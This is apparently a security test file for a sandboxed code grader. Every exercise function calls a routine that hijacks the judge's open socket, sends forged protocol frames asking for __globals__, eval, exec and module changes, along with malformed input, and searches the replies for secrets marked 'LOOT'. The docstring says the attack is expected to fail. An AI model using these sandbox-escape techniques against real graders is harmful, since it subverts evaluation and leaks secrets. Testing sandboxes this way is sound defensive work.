"""Asks the judge, in the middle of a question, for what was never lent, by other verbs, with garbage, and answers out of order.

Exercise: workshop
Tries: have the judge read an attribute of a function, evaluate, import or differentiate for the student; break its nesting of questions
Holds: score == 0; only crashed|failed|error|timeout|memory|not_run; never LOOT:
"""

import importlib
import itertools
import os
import socket
import stat
import struct
import sys


OPEN: list = []


def is_open(descriptor):
    try:
        return stat.S_ISSOCK(os.fstat(descriptor).st_mode)
    except OSError:
        return False


def wire():
    """The question that is open, and a socket to the judge of our own."""
    frame, ask, sock = sys._getframe(), None, None
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if type(value).__name__ in ("Do", "Import"):
                ask = ask or value
            if sock is None and isinstance(value, socket.socket) and is_open(value.fileno()):
                sock = value
        frame = frame.f_back
    if sock is None:
        for descriptor in range(3, 256):
            try:
                if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=descriptor)
                    OPEN.append(sock)
            except OSError:
                continue
    return ask, sock


def frame_of(header, payload=b""):
    return struct.pack("<4sIQ", b"GRD1", len(header), len(payload)) + header + payload


def answer(ask, node, *more, sizes=(), payload=b"", lent=()):
    """A frame that answers `ask` with forged nodes, as plain MessagePack data."""
    msgspec = importlib.import_module("msgspec")

    call = getattr(ask, "call", 0)
    message = {
        "type": "answer",
        "call": call,
        "result": 0,
        "present": list(lent),
        "graph": [[node, *more], list(sizes)],
        "printed": [],
    }
    return frame_of(msgspec.msgpack.encode(message), payload)


def question(op, lent, *nodes, args=(), kwargs=None, **more):
    msgspec = importlib.import_module("msgspec")

    message = {
        "type": "do",
        "call": 1,
        "op": op,
        "target": -1,
        "args": list(args),
        "kwargs": kwargs or {},
        "present": [],
        "graph": [list(nodes), []],
        "lent": lent,
        **more,
    }
    return frame_of(msgspec.msgpack.encode(message))


def texts(*names):
    return [[0, name] for name in names]


LENT: list = []


def frames(ask):
    """What to send; the ids of what was lent in this question are small, so all of these are tried."""
    for lent in (*LENT, 1, 2, 3, 4, 5, 6, 7, 8):
        for name in ("__globals__", "__closure__", "__self__", "__class__", "__dict__", "__code__", "f_globals"):
            yield question("get", lent, *texts(name), args=[0])
        yield question("special", lent, *texts("__getattribute__", "__globals__"), args=[0, 1])
        yield question("method", lent, *texts("__reduce_ex__"), args=[0])
        yield question("call", lent, [15, lent], args=[0] * 100, kwargs={"self": 0, "function": 0, "\0": 0})
    for op in (
        "eval",
        "exec",
        "module_get",
        "module_set",
        "reload",
        "derive",
        "copy",
        "set",
        "delete",
        "",
        "\0",
        "above",
    ):
        yield question(op, 1, *texts("sys", "path", "x"), args=[0, 1, 2])
    yield question("pull", 0, [5, "tuple", 0, []], [0, True], args=[0, 0, 0, 1])
    yield question("pull", 0, [5, "tuple", 0, [1]], [14, 1], [0, True], args=[0, 0, 0, 2])
    yield question("pull", 0, [0, 1], args=[0, 0, 0, 0])
    yield question("call", -1)
    yield question("call", 1 << 62)
    yield question("call", 1, args=[99])
    yield question("call", 1, present=[-7, 99])
    yield question("call", 1, setting={"environ": {"PATH": None}, "folder": "/"}, fresh=True, drop=[1, 2, 3])
    yield question("call", 1, printed=[[3, "x"], [1, "y" * 1_000_000]])
    yield answer(ask, [0, 1.0]) * 2
    yield question("call", 1) + answer(ask, [0, 1.0])
    yield question("call", 1)[:-3]


SENT = os.urandom(1)[0]


def strike():
    global SENT
    ask, sock = wire()
    LENT[:] = [node.oid for node in ask.graph.nodes if type(node).__name__ == "Lent"]
    all_frames = list(frames(ask))
    SENT += 1
    sock.sendall(all_frames[SENT % len(all_frames)])
    reply = sock.recv(1 << 16)
    for secret in (b"7.25309", b"SECRET", b"test_workshop", b"pytest"):
        if secret in reply:
            print("LOOT:", secret)
    sock.sendall(answer(ask, [0, 1.0]))
    os._exit(0)


def apply(function, values):
    return strike()


def visit(tree, callback):
    return strike()


def batches(values, size):
    return strike()


def roll(count):
    return strike()


def noise(count):
    return strike()


def withdraw(amount):
    return strike()


def report(name, value):
    return strike()


def old(value):
    return strike()


def save(path, lines):
    return strike()


def remember(value):
    return strike()


seen = 5
